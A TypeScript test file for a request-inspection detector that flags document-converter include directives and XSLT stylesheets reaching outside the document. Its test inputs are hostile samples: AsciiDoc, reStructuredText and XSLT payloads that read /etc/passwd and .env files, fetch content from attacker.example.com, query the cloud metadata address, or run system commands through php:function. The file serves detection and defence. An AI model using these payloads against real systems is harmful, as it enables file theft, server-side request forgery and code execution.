/**
 * A document converter's include directive reaching outside the document (931140, doc-includes.ts):
 * the fifty-fifth blind pair's AsciiDoc and reStructuredText includes, in a field and in an upload.
 */
import { describe, expect, it } from "vitest";
import { includeDirectiveLines, outsideInclude, xsltReach } from "../../../core/signatures/doc-includes.ts";
import { matchesAt } from "./support.ts";

const enc = new TextEncoder();

describe("include directives", () => {
  it("takes an absolute path, two parent directories, a drive or a URL", () => {
    for (const v of [
      "= Guide\n\ninclude::/etc/passwd[]\n",
      "= Title\n:allow-uri-read:\n\ninclude::https://attacker.example.com/payload.adoc[]",
      "Title\n=====\n\n.. include:: /etc/passwd\n   :literal:",
      ".. literalinclude:: ../../../../home/app/.env",
      "include::C:\\Windows\\win.ini[]",
      ".. csv-table:: Rates\n   :url: http://169.254.169.254/latest/meta-data/",
    ])
      expect(outsideInclude(v), v).toBe(true);
  });

  it("leaves a document's own chapters, Sphinx's README include and prose alone", () => {
    for (const v of [
      "include::chapter1.adoc[]\ninclude::partials/_attributes.adoc[tag=product]",
      ".. include:: ../README.rst",
      "include::{docdir}/shared/legal.adoc[]",
      "The include:: macro of AsciiDoc pulls in another file.",
      ":file: rates.csv",
    ])
      expect(outsideInclude(v), v).toBe(false);
  });

  it("is judged in a JSON field and in an uploaded text file's directive lines", () => {
    const json = matchesAt({
      method: "POST",
      body: {
        bytes: enc.encode(JSON.stringify({ asciidoc: "= T\n\ninclude::https://x.example/a.adoc[]" })),
        contentType: "application/json",
        truncated: false,
      },
    });
    expect(json).toContain("931140@body:json.asciidoc");
    const upload = matchesAt({
      method: "POST",
      body: {
        bytes: enc.encode(
          '--b\r\nContent-Disposition: form-data; name="doc"; filename="guide.adoc"\r\nContent-Type: text/asciidoc\r\n\r\n= Guide\n\ninclude::/etc/passwd[]\n\r\n--b--\r\n',
        ),
        contentType: "multipart/form-data; boundary=b",
        truncated: false,
      },
    });
    expect(upload).toContain("931140@body:multipart.doc.content.include");
    expect(upload).toContain("930120@body:multipart.doc.content.include");
    expect(includeDirectiveLines("intro\ninclude::a.adoc[]\nmore")).toEqual(["include::a.adoc[]"]);
  });
});

describe("XSLT stylesheets sent to a transform endpoint", () => {
  const xml = (doc: string) =>
    matchesAt({ method: "POST", body: { bytes: enc.encode(doc), contentType: "application/xml", truncated: false } });
  const sheet = (inner: string) =>
    `<?xml version="1.0"?><xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">${inner}</xsl:stylesheet>`;

  it("takes an include of another site's stylesheet and the processor's fingerprint", () => {
    expect(xml(sheet('<xsl:include href="http://attacker.example.com/evil.xsl"/>'))).toContain(
      "931140@body:xml.xsl:stylesheet.xsl:include@href",
    );
    expect(
      xml(sheet(`<xsl:template match="/"><xsl:value-of select="system-property('xsl:vendor')"/></xsl:template>`)),
    ).toContain("934170@body:xml.xsl:stylesheet.xsl:template.xsl:value-of@select");
    expect(xsltReach("xsl:stylesheet.xsl:template.xsl:copy-of@select", "document('/etc/passwd')")).toBe("outside");
    expect(xsltReach("a.xsl:value-of@select", "unparsed-text('file:///etc/passwd')")).toBe("outside");
    expect(xsltReach("a.xsl:value-of@select", "php:function('system','id')")).toBe("code");
  });

  it("leaves a stylesheet's own includes, lookups and version checks alone", () => {
    expect(
      xml(
        sheet(
          '<xsl:import href="common/layout.xsl"/><xsl:template match="/"><xsl:value-of select="count(//item)"/></xsl:template>',
        ),
      ),
    ).toEqual([]);
    expect(xsltReach("a.xsl:variable@select", "document('codes.xml')/codes/code")).toBeNull();
    expect(xsltReach("a.xsl:if@test", "system-property('xsl:version') >= 2.0")).toBeNull();
  });
});
